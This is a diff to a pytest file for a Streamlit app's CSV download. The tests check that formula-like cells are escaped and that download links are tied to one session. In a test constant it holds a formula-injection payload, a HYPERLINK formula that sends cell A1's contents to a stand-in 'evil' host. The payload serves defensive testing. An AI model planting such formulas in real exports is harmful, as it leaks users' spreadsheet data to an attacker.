@@ -2,12 +2,17 @@
 
 import ast
 import csv
+from collections.abc import Iterator
 from pathlib import Path
 
 import pandas as pd
 import pytest
 
-from pages.parts.download import as_cells, download_csv
+from pages.parts import download
+from pages.parts.clients import Client
+from pages.parts.download import TABLE_PATH, as_cells
+from pages.parts.passes import Pass
+from tests.pages.fetched import fetch
 
 PAGES = Path(__file__).parents[2] / "pages"
 LINK = '=HYPERLINK("http://evil/?"&A1,"open")'
@@ -19,12 +24,42 @@ def test_no_text_is_a_formula_to_a_spreadsheet(text: str) -> None:
     assert rows.to_dict("records") == [{"event": f"'{text}", "reward": -0.5}]
 
 
-def test_what_is_taken_along_holds_no_formula(monkeypatch: pytest.MonkeyPatch) -> None:
-    taken: list[str] = []
-    monkeypatch.setattr("streamlit.download_button", lambda _, made, **more: taken.append(made()))
-    download_csv("Download", lambda: [{"event": LINK, "reward": -0.5}], key="csv", name="log")
-    (text,) = taken
-    assert list(csv.DictReader(text.splitlines())) == [{"event": f"'{LINK}", "reward": "-0.5"}]
+@pytest.fixture
+def mine(monkeypatch: pytest.MonkeyPatch) -> Iterator[Pass]:
+    """What the session was given that draws the page."""
+    given = Pass(Client("a", ""))
+    monkeypatch.setattr(download, "this_pass", lambda client: given)
+    yield given
+    given.leave()
+
+
+def offer(amount: int) -> None:
+    """Draw a link to so many rows."""
+    rows = [{"event": LINK, "reward": -0.5}] * amount
+    download.download_csv("Download", lambda: rows, key="csv", name="log")
+
+
+def test_what_is_taken_along_holds_no_formula(mine: Pass) -> None:
+    offer(1)
+    answer = fetch(f"{TABLE_PATH}/{mine.token}/csv")
+    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
+    assert answer.headers["content-disposition"] == 'attachment; filename="log.csv"'
+    rows = list(csv.DictReader(answer.body.decode().splitlines()))
+    assert rows == [{"event": f"'{LINK}", "reward": "-0.5"}]
+
+
+def test_a_link_that_is_drawn_anew_stays_good(mine: Pass) -> None:
+    """Streamlit's button was forgotten at each drawing, and a press just then came to nothing."""
+    for amount in (1, 2):
+        offer(amount)
+    assert fetch(f"{TABLE_PATH}/{mine.token}/csv").body.count(b"HYPERLINK") == 2
+
+
+@pytest.mark.parametrize("place", ["{token}/other", "another/csv"])
+def test_no_other_visit_has_it(mine: Pass, place: str) -> None:
+    offer(1)
+    refused = fetch(f"{TABLE_PATH}/{place.format(token=mine.token)}")
+    assert (refused.status, b"another visit" in refused.body) == (403, True)
 
 
 def test_all_else_stays_as_it_is() -> None:
